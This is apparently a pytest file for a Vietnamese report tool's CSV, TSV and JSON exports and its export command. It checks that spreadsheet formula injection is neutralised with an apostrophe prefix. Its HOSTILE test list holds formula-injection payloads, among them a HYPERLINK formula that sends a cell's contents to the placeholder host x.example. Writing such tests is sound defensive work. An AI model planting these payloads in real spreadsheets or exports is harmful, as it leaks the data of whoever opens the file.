"""Machine-readable formats through tablib (issue 18 item 2): CSV exactly as before, TSV and JSON
for any report, and ``cnscd export --format tsv|json``."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from exports import datasets, writers
from exports.layout import Column, Report, parse_period
from exports.request import KINDS, PERIOD_KINDS, ReportRequest, build_pack

from .conftest import PASS
from .test_cli import run

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1:A2)", " =1+1", "\t=1+1",
           "chữ có \x07 chuông"]


def _all_reports(reg):
    for kind in KINDS:
        period = parse_period("2026-Q2") if kind in PERIOD_KINDS else None
        obj, _ = build_pack(reg, ReportRequest(kind=kind, period=period, day=dt.date(2026, 6, 30)))
        yield kind, obj


def test_tablib_csv_is_byte_for_byte_the_writers_csv_for_every_report(demo):
    for kind, obj in _all_reports(demo):
        assert datasets.render(obj, "x", "csv") == writers.render(obj, "x", "csv"), kind


def _hostile() -> Report:
    cols = [Column("Stt", "int"), Column("Họ và tên"), Column("Số điện thoại", "phone"), Column("Ngày", "date"),
            Column("Nam", "year", group="Năm sinh"), Column("Nữ", "year", group="Năm sinh"), Column("Tỷ lệ", "pct1"),
            Column("Ghi chú"), Column("Ghi chú")]
    rows = [[i, v, "0912345678", dt.date(2026, 4, 10), 1990, None, 12.5, v, ""] for i, v in enumerate(HOSTILE, 1)]
    return Report("danh-sach", "Danh sách", cols, rows, total=["", "Tổng", "", "", 7, 0, None, "", ""],
                  sheet_name="Danh sách", personal_data=True)


def test_csv_and_tsv_keep_the_owasp_prefix_and_the_bom():
    r = _hostile()
    assert datasets.render(r, "x", "csv") == writers.render(r, "x", "csv")
    [(name, data)] = datasets.render(r, "x", "tsv")
    assert name == "x.tsv" and data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter="\t"))
    assert lines[0][:6] == ["Stt", "Họ và tên", "Số điện thoại", "Ngày", "Năm sinh – Nam", "Năm sinh – Nữ"]
    cells = [line[1] for line in lines[1:7]]
    assert all(c.startswith("'") for c in cells), cells
    assert lines[1][2:5] == ["0912345678", "10/04/2026", "1990"]


def test_json_keeps_numbers_dates_and_text_as_typed():
    [(name, data)] = datasets.render(_hostile(), "x", "json")
    rows = json.loads(data)
    assert name == "x.json" and len(rows) == len(HOSTILE) + 1
    first = rows[0]
    assert first["Stt"] == 1 and first["Họ và tên"] == HOSTILE[0]  # no ' prefix: JSON is not a spreadsheet
    assert first["Số điện thoại"] == "0912345678" and first["Ngày"] == "2026-04-10"
    assert first["Năm sinh – Nam"] == 1990 and first["Năm sinh – Nữ"] is None and first["Tỷ lệ"] == 12.5
    assert "Ghi chú (2)" in first  # a title twice: no cell lost
    assert rows[-1]["Họ và tên"] == "Tổng"
    assert rows[len(HOSTILE) - 1]["Họ và tên"] == "chữ có \ufffd chuông"


def test_json_of_several_sheets_is_one_document(demo):
    p = parse_period("2026-Q2")
    obj, _ = build_pack(demo, ReportRequest(kind="bao-cao-ky", period=p, day=dt.date(2026, 6, 30)))
    [(name, data)] = datasets.render(obj, "BaoCao", "json")
    sheets = json.loads(data)
    assert name == "BaoCao.json" and len(sheets) == len(obj.reports)
    assert sheets[0]["title"] == "Tổng hợp" and isinstance(sheets[0]["data"], list)
    assert len(datasets.render(obj, "BaoCao", "tsv")) == len(obj.reports)  # one file per sheet, as CSV


def test_unknown_format_is_refused():
    from models.errors import InputError

    with pytest.raises(InputError):
        datasets.render(_hostile(), "x", "xml")


def test_cli_export_tsv_and_json_files_with_receipts(demo, tmp_path, monkeypatch, capsys):
    from models import services
    from models.db import Registry

    db = demo.path
    demo.close()
    env = {"CNSCD_PASSPHRASE": PASS}
    code, out, err = run(["export", "thanh-phan", "--db", str(db), "--format", "tsv", "--out", str(tmp_path)],
                         monkeypatch, capsys, env=env)
    assert code == 0, err
    [tsv] = list(tmp_path.glob("*.tsv"))
    assert tsv.name.startswith("ThanhPhan_") and "\t" in tsv.read_text(encoding="utf-8-sig")
    code, out, err = run(["export", "phu-luc-1", "--db", str(db), "--out", str(tmp_path / "pl.json")], monkeypatch,
                         capsys, env=env)
    assert code == 0, err
    rows = json.loads((tmp_path / "pl.json").read_text(encoding="utf-8"))
    assert rows[-1]["Tổng số thành viên Tổ CNSCĐ"] == 189
    stick = tmp_path / "USB"
    stick.mkdir()
    code, out, err = run(["export", "danh-sach", "--db", str(db), "--format", "json", "--usb", str(stick)],
                         monkeypatch, capsys, env=env)
    assert code == 0 and [p.suffix for p in stick.iterdir()] == [".json"]
    assert "dữ liệu cá nhân" in err
    with Registry.open(db, passphrase=PASS) as reg:
        receipts = [e.summary for e in services.list_audit(reg, action="xuat")]
    assert len(receipts) == 3 and "(JSON," in receipts[0] and "(TSV," in receipts[2]
    code, out, err = run(["export", "phu-luc-1", "--db", str(db), "--format", "json", "--protect"], monkeypatch,
                         capsys, env=env)
    assert code == 2 and "xlsx" in err
